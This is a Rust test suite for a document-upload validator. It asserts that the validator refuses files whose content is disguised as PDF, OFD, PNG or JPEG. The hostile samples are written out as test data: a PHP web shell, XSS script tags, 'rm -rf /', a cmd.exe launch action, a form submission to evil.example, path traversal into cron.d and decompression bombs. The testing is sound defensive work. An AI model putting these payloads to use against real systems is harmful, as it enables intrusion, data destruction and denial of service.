//! Files that lie: each is refused by its content, whatever it is called, in bounded time and memory (SEC-13).

use bytes::Bytes;
use office::attachments::{LARGEST, Upload, look_over};
use sim::pdf_of;

use crate::corpus::corpus;
use crate::forged::{Entry, PAGE, PAGES, deflate, good, jpeg, ofd, png, saying, stored, zip, zlib};

/// The codes of the reasons for which a file is refused.
fn told(bytes: Vec<u8>) -> Vec<String> {
    let upload = Upload {
        name: "证明.pdf".into(),
        bytes: Bytes::from(bytes),
    };
    let reasons = look_over("attachment", &upload);
    for reason in &reasons {
        assert!(!reason.fix.is_empty() && reason.message.contains("“证明.pdf”"));
    }
    reasons
        .into_iter()
        .map(|reason| reason.code.into_owned())
        .collect()
}

#[test]
fn honest_files_pass() {
    let updated = [good(), b"4 0 obj\n<</Type/Annot>>\nendobj\n".to_vec()].concat();
    let start = good().len() + 32;
    let update = format!("xref\n4 1\n{:010} 00000 n \n", good().len());
    let prev = String::from_utf8(good()).unwrap();
    let prev = prev
        .rsplit("startxref\n")
        .next()
        .unwrap()
        .lines()
        .next()
        .unwrap()
        .to_owned();
    let trailer = format!("trailer\n<</Size 5/Root 1 0 R/Prev {prev}>>\nstartxref\n{start}\n%%EOF");
    let signed = [updated, update.into_bytes(), trailer.into_bytes()].concat();
    let link = "/OpenAction[3 0 R/Fit]/Outlines<<>>/URI<</Base(https://www.example.cn)>>";
    let page = deflate(&vec![b'x'; 20_000]);
    let attached = ofd(&[
        ("Doc_0/Pages/Page_0/Content.xml", page, 8, 20_000),
        stored("Doc_0/Attachs/original_invoice.xml", b"<eInvoice/>"),
    ]);
    // A telephone writes a second picture after the first.
    let two = [jpeg(4000, 3000, b"photo"), jpeg(1000, 750, b"")].concat();
    let honest = [
        ("PDF", good()),
        ("PDF with an incremental update", signed),
        ("PDF with links", saying(link)),
        ("OFD", attached),
        ("PNG", png(2480, 3508, b"")),
        ("JPEG", jpeg(12_000, 8_000, b"")),
        ("two pictures", two),
    ];
    for (what, bytes) in honest {
        assert_eq!(told(bytes), [""; 0], "{what}");
    }
}

#[test]
fn files_of_two_kinds_are_refused() {
    let inner = zip(&[stored("run.exe", b"MZ")], 0);
    let with = |more: &[u8]| [good(), more.to_vec()].concat();
    let between = |what: &str| {
        pdf_of(&[
            "<</Type/Catalog/Pages 2 0 R>>",
            PAGES,
            &format!("{PAGE}\n% {what}"),
        ])
    };
    let commented = format!("\n%{}", String::from_utf8_lossy(&inner[..0]));
    let two_faced = [
        ("PDF and zip", with(&inner)),
        (
            "PDF, zip and another end",
            with(&[&inner[..], b"\n%%EOF\n"].concat()),
        ),
        (
            "PDF and HTML",
            with(b"<html><script>alert(1)</script></html>"),
        ),
        ("PDF and shell script", with(b"rm -rf /\n%%EOF")),
        ("HTML in a comment", between("<ScRiPt>alert(1)</script>")),
        ("PHP in a comment", between("<?php system($_GET[0]);")),
        (
            "zip in a comment of the end",
            with(&[commented.as_bytes(), &inner[..]].concat()),
        ),
        ("picture and zip", png(10, 10, &inner)),
        ("picture and page", png(10, 10, b"<html>")),
        (
            "photograph with a page in its comment",
            jpeg(10, 10, b"<html><script>alert(1)</script>"),
        ),
        (
            "photograph and zip",
            [jpeg(10, 10, b""), inner.clone()].concat(),
        ),
        (
            "OFD behind another file",
            [b"PK\x03\x04 something else ".to_vec(), ofd(&[])].concat(),
        ),
        (
            "OFD whose entries leave their folder",
            ofd(&[stored("../../etc/cron.d/x", b"x")]),
        ),
    ];
    for (what, bytes) in two_faced {
        assert_eq!(told(bytes), ["file.two-faced"], "{what}");
    }
    let page = b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>".to_vec();
    assert_eq!(
        told(page),
        ["file.kind"],
        "a drawing with a script under any name"
    );
    assert_eq!(
        told(zip(&[stored("a.txt", b"x")], 0)),
        ["file.kind"],
        "a plain archive"
    );
    let hides = [b"#!/bin/sh\n".to_vec(), good()].concat();
    assert_eq!(told(hides), ["file.kind"], "a script with a PDF behind it");
}

#[test]
fn a_pdf_neither_runs_nor_carries_anything() {
    let cases = [
        (
            "/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>",
            "file.script",
        ),
        (
            "/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS 9 0 R>>]>>>>",
            "file.script",
        ),
        ("/AA<</WC<</S/JavaScript/JS(x)>>>>", "file.script"),
        ("/AcroForm<</XFA[(a) 3 0 R]>>", "file.script"),
        ("/OpenAction<</S/Launch/F(cmd.exe)>>", "file.launch"),
        (
            "/OpenAction<</S/SubmitForm/F(https://evil.example)>>",
            "file.launch",
        ),
        ("/OpenAction<</S/GoToE/T<</R/C>>>>", "file.launch"),
        (
            "/Names<</EmbeddedFiles<</Names[(a.exe) 3 0 R]>>>>",
            "file.embedded",
        ),
        ("/AF[<</Type/Filespec/EF<</F 3 0 R>>>>]", "file.embedded"),
        ("/X<</Subtype/RichMedia>>", "file.embedded"),
    ];
    for (what, code) in cases {
        assert_eq!(told(saying(what)), [code], "{what}");
    }
    // The same words under other letters.
    let hidden = told(saying("/OpenAction<</S/J#61vaScript/J#53(x)>>"));
    assert_eq!(hidden, ["file.hidden", "file.script"]);
    let both = told(saying(
        "/OpenAction<</S/JavaScript/JS(x)>>/Names<</EmbeddedFiles<<>>>>",
    ));
    assert_eq!(both, ["file.embedded", "file.script"], "all at once");
    // Within a compressed table of objects it is found all the same.
    let packed = zlib(b"4 0 <</S/JavaScript/JS(x)>>");
    let mut bytes = good();
    let at = bytes.len();
    bytes.extend(
        format!(
            "5 0 obj\n<</Type/ObjStm/N 1/First 4/Length {}/Filter/FlateDecode>>\nstream\n",
            packed.len()
        )
        .bytes(),
    );
    bytes.extend(&packed);
    bytes.extend(b"\nendstream\nendobj\n");
    let table = bytes.len();
    let rows = |row: [u32; 3]| {
        [
            vec![row[0] as u8],
            row[1].to_be_bytes().to_vec(),
            vec![row[2] as u8],
        ]
        .concat()
    };
    let entries = [
        rows([2, 5, 0]),
        rows([1, at as u32, 0]),
        rows([1, table as u32, 0]),
    ]
    .concat();
    let text = String::from_utf8_lossy(&good()).into_owned();
    let prev = text
        .rsplit("startxref\n")
        .next()
        .unwrap()
        .lines()
        .next()
        .unwrap()
        .to_owned();
    bytes.extend(format!("6 0 obj\n<</Type/XRef/Size 7/Root 1 0 R/Prev {prev}/Index[4 3]/W[1 4 1]/Length {}>>\nstream\n", entries.len()).bytes());
    bytes.extend(entries);
    bytes.extend(format!("\nendstream\nendobj\nstartxref\n{table}\n%%EOF").bytes());
    assert_eq!(told(bytes), ["file.script"], "in a compressed table");
}

#[test]
fn what_is_locked_or_torn_is_refused() {
    let locked = saying("")
        .iter()
        .map(|byte| *byte as char)
        .collect::<String>();
    let locked = locked.replace(
        "/Root 1 0 R",
        "/Root 1 0 R/Encrypt<</Filter/Standard/V 1/R 2/P -4>>",
    );
    assert_eq!(told(locked.into_bytes()), ["file.encrypted"]);
    let whole = good();
    for cut in [10, whole.len() / 2, whole.len() - 7] {
        assert_eq!(told(whole[..cut].to_vec()), ["file.broken"], "cut at {cut}");
    }
    let tail = [&whole[..whole.len() / 3], b"\n%%EOF".as_slice()].concat();
    assert_eq!(told(tail), ["file.broken"], "an end without its table");
    assert_eq!(
        told(pdf_of(&["<</Type/Catalog>>"])),
        ["file.broken"],
        "no pages"
    );
    let picture = png(100, 100, b"");
    assert_eq!(told(picture[..picture.len() - 5].to_vec()), ["file.broken"]);
    assert_eq!(told(jpeg(0, 10, b"")), ["file.broken"]);
    let archive = ofd(&[]);
    assert_eq!(told(archive[..archive.len() - 4].to_vec()), ["file.broken"]);
    assert_eq!(
        told(zip(&[stored("OFD.xml", b"<x/>")], 1)),
        ["file.encrypted"]
    );
}

#[test]
fn what_would_burst_is_refused_unopened() {
    let page = "<</Type/Page/Parent 2 0 R>>";
    let kids: String = (0..50_000).map(|at| format!("{} 0 R ", at + 3)).collect();
    let tree = format!("<</Type/Pages/Kids[{kids}]/Count 50000>>");
    let mut objects = vec!["<</Type/Catalog/Pages 2 0 R>>", tree.as_str()];
    objects.extend(std::iter::repeat_n(page, 50_000));
    let many = pdf_of(&objects);
    let upload = Upload {
        name: "x.pdf".into(),
        bytes: Bytes::from(many),
    };
    let reasons = look_over("attachment", &upload);
    assert_eq!(reasons.len(), 1);
    assert_eq!(
        reasons[0].full_message(),
        "文件“x.pdf”页数太多（规定：不超过 500 页；现为：50000 页）"
    );
    // One page shown again and again, and a tree that branches without end.
    let same = format!("<</Type/Pages/Kids[{}]/Count 1>>", "3 0 R ".repeat(600));
    assert_eq!(
        told(pdf_of(&["<</Type/Catalog/Pages 2 0 R>>", &same, PAGE])),
        ["file.pages"]
    );
    let branch = |next: usize| {
        format!(
            "<</Type/Pages/Kids[{}]>>",
            format!("{next} 0 R ").repeat(50)
        )
    };
    let branches: Vec<String> = (3..12).map(branch).collect();
    let mut objects = vec!["<</Type/Catalog/Pages 2 0 R>>".to_owned()];
    objects.extend(branches);
    objects.push("<</Type/Pages/Kids[2 0 R]>>".into());
    let objects: Vec<&str> = objects.iter().map(String::as_str).collect();
    assert_eq!(told(pdf_of(&objects)), ["file.pages"], "a tree without end");

    let nothing = "null";
    let mut objects = vec!["<</Type/Catalog/Pages 2 0 R>>", PAGES, PAGE];
    objects.extend(std::iter::repeat_n(nothing, 70_000));
    assert_eq!(told(pdf_of(&objects)), ["file.complex"]);
    // A compressed table of objects that unpacks to 64 MB, once and packed twice.
    let bomb = zlib(&vec![b' '; 64 * 1024 * 1024]);
    for (filter, data, code) in [
        ("/FlateDecode", bomb.clone(), "file.complex"),
        ("[/FlateDecode/FlateDecode]", zlib(&bomb), "file.hidden"),
    ] {
        let mut bytes = good();
        let head = format!(
            "9 0 obj\n<</Type/ObjStm/N 1/First 4/Filter{filter}/Length {}>>\nstream\n",
            data.len()
        );
        bytes.extend(head.bytes());
        bytes.extend(data);
        bytes.extend(b"\nendstream\nendobj\n%%EOF");
        assert_eq!(told(bytes), [code], "{filter}");
    }

    // A page packed twice, as large unpacked as anybody likes; in letters and packed once is how programs write.
    let page = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>";
    for (filter, codes) in [
        ("[/FlateDecode /FlateDecode]", vec!["file.hidden"]),
        ("[/LZW/Fl]", vec!["file.hidden"]),
        ("[/ASCII85Decode/FlateDecode]", vec![]),
    ] {
        let stream = format!("<</Length 4/Filter{filter}>>\nstream\nabcd\nendstream");
        let catalog = "<</Type/Catalog/Pages 2 0 R>>";
        let made = pdf_of(&[catalog, PAGES, page, &stream]);
        assert_eq!(told(made), codes, "{filter}");
    }

    let gigabyte = (deflate(&vec![0; 1 << 20]), 8, 1 << 30);
    assert_eq!(
        told(ofd(&[("Doc_0/a.xml", gigabyte.0, gigabyte.1, gigabyte.2)])),
        ["file.bomb"]
    );
    let quarter = deflate(&[0; 1 << 16]);
    let many: Vec<Entry<'_>> = (0..100)
        .map(|_| ("a.xml", quarter.clone(), 8, 50_000_000))
        .collect();
    assert_eq!(told(ofd(&many)), ["file.bomb"]);
    let lots: Vec<Entry<'_>> = (0..2_500).map(|_| stored("a.xml", b"")).collect();
    assert_eq!(told(ofd(&lots)), ["file.complex"]);
    assert_eq!(
        told(ofd(&[stored("Doc_0/more.zip", b"PK")])),
        ["file.nested"]
    );
    let inner = zip(&[stored("b", b"x")], 0);
    let size = inner.len() as u32;
    assert_eq!(
        told(ofd(&[("Doc_0/image.png", inner.clone(), 0, size)])),
        ["file.nested"]
    );
    assert_eq!(
        told(ofd(&[("Doc_0/image.png", deflate(&inner), 8, size)])),
        ["file.nested"]
    );
    assert_eq!(
        told(ofd(&[stored("Doc_0/run.EXE", b"MZ")])),
        ["file.script"]
    );

    assert_eq!(told(png(60_000, 60_000, b"")), ["file.pixels"]);
    assert_eq!(told(png(u32::MAX, u32::MAX, b"")), ["file.pixels"]);
    assert_eq!(told(jpeg(20_000, 20_000, b"")), ["file.pixels"]);
}

#[test]
fn no_bytes_break_the_reader() {
    let seeds = [
        good(),
        saying("/OpenAction<</S/JavaScript/JS(x)>>"),
        ofd(&[]),
        png(9, 9, b""),
        jpeg(9, 9, b"x"),
    ];
    let mut random: u64 = 0x2545_f491_4f6c_dd1d;
    let mut next = move |below: usize| {
        random ^= random << 13;
        random ^= random >> 7;
        random ^= random << 17;
        usize::try_from(random % below as u64).unwrap()
    };
    for _ in 0..400 {
        let mut bytes = seeds[next(seeds.len())].clone();
        for _ in 0..=next(6) {
            let at = next(bytes.len());
            match next(4) {
                0 => bytes[at] = u8::try_from(next(256)).unwrap(),
                1 => bytes.truncate(at.max(1)),
                2 => {
                    bytes.insert(at, 0xff);
                }
                _ => {
                    let tail = bytes[at..].to_vec();
                    bytes.extend(tail);
                }
            }
        }
        told(bytes);
    }
    let mut padded = good();
    padded.resize(LARGEST, b' ');
    assert_eq!(told(padded), [""; 0], "white space is nothing");
}

/// A table of references that names itself as the one before it is read once.
#[test]
fn a_table_that_follows_itself_is_read_to_an_end() {
    let text = String::from_utf8(good()).unwrap();
    let start = text.rsplit_once("startxref\n").unwrap().1;
    let start = start.lines().next().unwrap();
    let circle = text.replace("/Root 1 0 R>>", &format!("/Root 1 0 R/Prev {start}>>"));
    assert!(told(circle.into_bytes()).len() <= 1);
}

#[test]
fn the_whole_corpus_is_refused() {
    let corpus = corpus();
    assert!(corpus.len() >= 200, "{}", corpus.len());
    let mut taken = Vec::new();
    let mut kinds = std::collections::BTreeMap::new();
    for (name, build) in &corpus {
        match told(build()).first() {
            Some(code) => *kinds.entry(code.clone()).or_insert(0) += 1,
            None => taken.push(name),
        }
    }
    assert!(taken.is_empty(), "taken: {taken:#?}");
    let told: Vec<_> = kinds.keys().map(String::as_str).collect();
    let expected = [
        "file.bomb",
        "file.broken",
        "file.complex",
        "file.embedded",
        "file.empty",
        "file.encrypted",
        "file.hidden",
        "file.kind",
        "file.large",
        "file.launch",
        "file.nested",
        "file.pages",
        "file.pixels",
        "file.script",
        "file.two-faced",
    ];
    assert_eq!(told, expected, "every reason is met");
}
